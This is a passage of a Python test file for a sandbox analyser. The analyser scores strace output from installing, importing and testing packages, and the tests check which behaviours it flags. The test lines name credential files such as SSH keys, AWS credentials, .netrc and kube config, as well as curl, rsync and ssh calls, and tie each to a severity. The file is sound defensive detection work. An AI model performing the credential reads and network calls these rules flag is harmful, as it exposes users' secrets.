    assert analyser.feed("install", hook) == []
    (spawn,) = analyser.feed("install", execve("/usr/bin/gcc", "gcc", "-c", "x.c", pid=300))
    assert (spawn.rule, spawn.process) == ("proc.started", "build-backend")


def test_uv_shims_from_package_code_are_still_inline_code() -> None:
    """uv's shim texts run by package code (not by uv) are inline code like any other."""
    for code in (UV_HOOK, UV_PROBE_CODE):
        line = execve(f"{V}/bin/python", "python", "-c", code)
        assert rules_hit("install", line).get("proc.inline_code") == "medium"


def test_uv_cache_writes_are_no_findings() -> None:
    """Writes in uv's cache (its build environments) are the installer's work, as pip's /tmp
    dirs are; other writes under ~/.cache stay info findings."""
    build_dir = "/home/tester/.cache/uv/builds-v0/.tmpb/lib/python3.11/site-packages/x.py"
    assert rules_hit("install", openat(build_dir, W)) == {}
    assert rules_hit("install", openat("/home/tester/.cache/x/y", W)) == {"fs.write_cache": "info"}


def test_uv_installing_a_pth_is_judged_by_content() -> None:
    """uv itself writing a .pth into site-packages (a wheel that ships one) is not site_hook."""
    analyser = Analyser(CTX)
    analyser.feed("install", execve(UV, "uv", "pip", "install", "x.whl", pid=200))
    pth = f'200 openat(AT_FDCWD</tmp/x>, "{SITE}/x.pth", {W}) = 3'
    assert [f.rule for f in analyser.feed("install", pth)] == []


@pytest.mark.parametrize(
    ("argv", "label", "expected"),
    [
        (["python", "-c", UV_HOOK], "build-backend", True),
        (["python", "-I", "-B", "-c", UV_PROBE_CODE], "uv-probe", True),
        (["python", "-m", "pip", "install"], "pip", True),
        (["python", "/v/pip/__pip-runner__.py", "install"], "pip", True),
        (["python", "-X", "faulthandler", "-m", "pytest"], "pytest", True),
        (["python", "-c", RUNNER_IMPORT_CODE, "demo"], "import demo", True),
        (["python", "-c", RUNNER_IMPORT_CODES[1], "demo"], "import demo", True),  # older images
        (["python", "-c", "print(1)"], "python -c", False),
        (["python", "-c", PIP_SHIM_OLD, "egg_info"], "setup.py", True),
        (["python", "-c", PIP_SHIM_NEW, "bdist_wheel"], "setup.py", True),
        (["python", "/v/pep517/in_process/_in_process.py", "x"], "build-backend", True),
        (["python", "setup.py", "build"], "python setup.py", False),
        (
            ["python", "/tmp/pyti-job-a1/pyti-build/build_hooks.py", "/t/_in_process.py", "o"],
            "build-backend",
            True,
        ),
        (["python", "/tmp/x/build_hooks.py"], "python build_hooks.py", False),
    ],
)
def test_classify_python_commands(argv: list[str], label: str, expected: bool) -> None:
    """The runner's and pip's python commands are expected; others are labelled by what runs."""
    assert classify("/home/tester/venv/bin/python3.11", tuple(argv)) == (label, expected)


def test_runner_import_code_matches_the_runner() -> None:
    """The engine's copy of the runner's import one-liner is the runner's."""
    assert RUNNER_IMPORT_CODE == IMPORT_CODE
    assert len(IMPORT_CODE.encode()) <= 256  # strace -s 256 shows it whole in execve


def test_trusted_dirs_are_not_system_secrets() -> None:
    """An interpreter living under /root (a host run) reading itself is not a secret read."""
    line = openat("/root/.pyenv/versions/3.11.7/lib/libpython3.11.so.1.0")
    assert "cred.system" in rules_hit("install", line)
    ctx = Context(bait_token=TOKEN, trusted_dirs=("/root/.pyenv/versions/3.11.7",))
    assert "cred.system" not in rules_hit("install", line, context=ctx)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(["install", "import", "tests"]), st.text(max_size=300))))
def test_analyser_never_raises_on_garbage(lines: list[tuple[str, str]]) -> None:
    """Arbitrary text fed as trace lines never raises, and findings stay well-formed."""
    analyser = Analyser(CTX)
    for phase, line in lines:
        for finding in analyser.feed(phase, line):
            assert finding.severity in ("info", "low", "medium", "high", "critical")


@settings(max_examples=200, deadline=None)
@given(
    st.dictionaries(
        st.sampled_from(["event", "phase", "line", "status", "files", "output_dropped"]),
        st.one_of(st.none(), st.integers(), st.text(max_size=50),
                  st.lists(st.one_of(st.text(max_size=10), st.dictionaries(
                      st.sampled_from(["name", "imports"]), st.one_of(st.text(max_size=5),
                                                                      st.booleans()))))),
    )
)  # fmt: skip
def test_analyser_never_raises_on_odd_events(event: dict[str, object]) -> None:
    """Runner events with missing or mistyped fields never raise."""
    for name in ("trace", "phase_finished", "pth_files", None):
        Analyser(CTX).feed_event({**event, "event": name} if name else event)


def test_profile_from_json_reads_tuples_as_the_protocol_decodes_them() -> None:
    """A profile that crossed the wire (arrays as tuples) reads back the same."""
    from slave.findings import profile_from_json

    as_json = [["install", "socket", "AF_INET"], ["import", "credential", "~/.ssh/id_rsa"]]
    as_wire = tuple(tuple(item) for item in as_json)
    assert profile_from_json(as_wire) == profile_from_json(as_json) != frozenset()


def test_git_or_curl_reading_netrc_on_their_own_is_only_recorded() -> None:
    """A suite cloning its data with git makes git look up ~/.netrc: info, not a finding
    that moves the verdict; the package's own process reading it still is one, and a tool
    writing it too."""
    netrc = '300 openat(AT_FDCWD, "/home/tester/.netrc", O_RDONLY) = -1 ENOENT (x)'
    for tool in ("/usr/bin/git", "/usr/lib/git-core/git-remote-https", "/usr/bin/curl"):
        started = execve(tool, posixpath.basename(tool), "clone", "https://x/y", pid=300)
        assert rules_hit("tests", started, netrc)["cred.store"] == "info"
        assert rules_hit("import", started, netrc)["cred.store"] == "info"
    python = execve(f"{V}/bin/python", "python", "-m", "demo", pid=300)
    assert rules_hit("import", python, netrc)["cred.store"] == "high"
    written = '300 openat(AT_FDCWD, "/home/tester/.netrc", O_WRONLY|O_CREAT, 0600) = 3'
    git = execve("/usr/bin/git", "git", "clone", "x", pid=300)
    assert rules_hit("tests", git, written)["cred.store"] == "medium"
    kube = '300 openat(AT_FDCWD, "/home/tester/.kube/config", O_RDONLY) = 3'
    assert rules_hit("tests", git, kube)["cred.store"] == "medium"


def test_the_uuid_mac_probe_and_a_capability_drop_are_not_judged() -> None:
    """CPython's uuid.getnode() runs ``ip link`` (then ``ifconfig``...) when libuuid finds
    no network card, and ``ip`` drops every capability at start (freezegun's tests, in a
    guest without a NIC): recorded as info, never judged. ``ip addr`` or ``ip route``, or a
    capset that keeps a capability, are judged as before."""
    drop = (
        "101 capset({version=_LINUX_CAPABILITY_VERSION_3, pid=0}, "
        "{effective=0, permitted=0, inheritable=0}) = 0"
    )
    keep = drop.replace("effective=0, permitted=0", "effective=1<<CAP_NET_RAW, permitted=0")
    probe = rules_hit(
        "tests",
        execve("/usr/sbin/ip", "/usr/sbin/ip", "link", pid=101),
        drop,
        execve("/usr/sbin/ifconfig", "/usr/sbin/ifconfig", "", pid=102),
    )
    assert probe == {"proc.network_tool": "info"}
    assert rules_hit("tests", execve("/usr/sbin/ip", "ip", "addr", pid=101)) == {
        "proc.network_tool": "medium"
    }
    assert (
        rules_hit("tests", execve("/usr/sbin/ip", "ip", "link", "set", "dev", "x"))[
            "proc.network_tool"
        ]
        == "medium"
    )
    assert rules_hit("install", keep)["priv.setid"] == "high"
    analyser = Analyser(CTX)
    for line in (execve("/usr/sbin/ip", "ip", "link", pid=101), drop):
        analyser.feed("tests", line)
    assert verdict(analyser.findings) == "clean"


def test_the_aws_sdks_credential_chain_in_tests_is_low() -> None:
    """A suite that makes a boto3 client (cachelib's DynamoDB tests) has botocore read
    ``~/.aws/credentials``: in the tests phase, by a process that loaded botocore (or
    its fork), that is ``low``. The same read by a process without botocore, or one that
    exec'd another program since, in tests; or by botocore at install or import; or of
    the SSH bait key: still ``critical``."""
    botocore = f"{SITE}/botocore/credentials.py"
    aws = "/home/tester/.aws/credentials"

    def severities(phase: str, lines: list[str]) -> list[tuple[str, str, int | None]]:
        analyser = Analyser(CTX)
        for line in lines:
            analyser.feed(phase, line)
        return [(x.rule, x.severity, x.pid) for x in analyser.findings if x.rule == "cred.bait"]

    sdk = [openat(botocore), openat(aws)]
    assert severities("tests", sdk) == [("cred.bait", "low", 100)]
    assert verdict([f("cred.bait", "low", "tests")]) == "clean"
    assert severities("tests", [openat(aws)]) == [("cred.bait", "critical", 100)]
    assert severities("import", sdk) == [("cred.bait", "critical", 100)]
    assert severities("tests", [openat(botocore), openat("/home/tester/.ssh/id_rsa")]) == [
        ("cred.bait", "critical", 100)
    ]
    forked = [openat(botocore), "100 clone(child_stack=NULL, flags=SIGCHLD) = 101"]
    child = f'101 openat(AT_FDCWD</tmp/x>, "{aws}", O_RDONLY|O_CLOEXEC) = 3'
    assert severities("tests", [*forked, child]) == [("cred.bait", "low", 101)]
    other = '100 execve("/usr/bin/cat", ["cat", "x"], 0x1 /* 0 vars */) = 0'
    assert severities("tests", [openat(botocore), other, openat(aws)]) == [
        ("cred.bait", "critical", 100)
    ]


def test_a_network_tool_asked_for_its_version_is_not_judged() -> None:
    """diskcache's tests run ``rsync --version`` to see whether rsync is there: a version
    or help probe reaches nothing, so it is info in any phase; the same tool with any
    other argument is judged as before."""
    for phase in ("install", "tests"):
        probe = execve("/usr/bin/rsync", "rsync", "--version")
        assert rules_hit(phase, probe) == {"proc.network_tool": "info"}
        assert rules_hit(phase, execve("/usr/bin/curl", "curl", "-V")) == {
            "proc.network_tool": "info"
        }
    sync = execve("/usr/bin/rsync", "rsync", "--version", "-a", "x", "host:y")
    assert rules_hit("tests", sync)["proc.network_tool"] == "medium"
    assert (
        rules_hit("install", execve("/usr/bin/curl", "curl", "http://x"))["proc.network_tool"]
        == "high"
    )


def test_a_test_suites_stand_in_for_a_network_tool_is_low() -> None:
    """pexpect's tests run their own ``tests/fakessh/ssh`` script: in the tests phase a
    network tool's name on a file of a tests folder is the suite's stand-in (low); the
    system's ssh, or the stand-in at install, is judged as before."""
    fake = "/tmp/pyti-job-1/src/pexpect-4.9.0/tests/fakessh/ssh"
    stand_in = execve(fake, fake, "-q", "-l", "me", "noserver")
    assert rules_hit("tests", stand_in)["proc.network_tool"] == "low"
    assert rules_hit("install", stand_in)["proc.network_tool"] == "high"
    real = execve("/usr/bin/ssh", "ssh", "-q", "-l", "me", "noserver")
    assert rules_hit("tests", real)["proc.network_tool"] == "medium"


def test_an_interactive_shell_reading_its_own_history_in_the_tests_is_info() -> None:
    """pexpect's tests drive ``bash --rcfile``, which reads ``~/.bash_history`` as it
    starts: in the tests phase that is the shell's own doing (info). Another program
    reading it, or a shell doing so at install, stays a credential-store finding."""
    shell = execve("/usr/bin/bash", "bash", "--rcfile", "/tmp/x/bashrc.sh")
    history = openat("/home/tester/.bash_history", "O_RDONLY")
    assert rules_hit("tests", shell, history)["cred.store"] == "info"
    assert rules_hit("install", shell, history)["cred.store"] == "high"
    cat = execve("/usr/bin/cat", "cat", "/home/tester/.bash_history")
    assert rules_hit("tests", cat, history)["cred.store"] == "medium"
    zsh_history = openat("/home/tester/.zsh_history", "O_RDONLY")
    assert rules_hit("tests", shell, zsh_history)["cred.store"] == "medium"
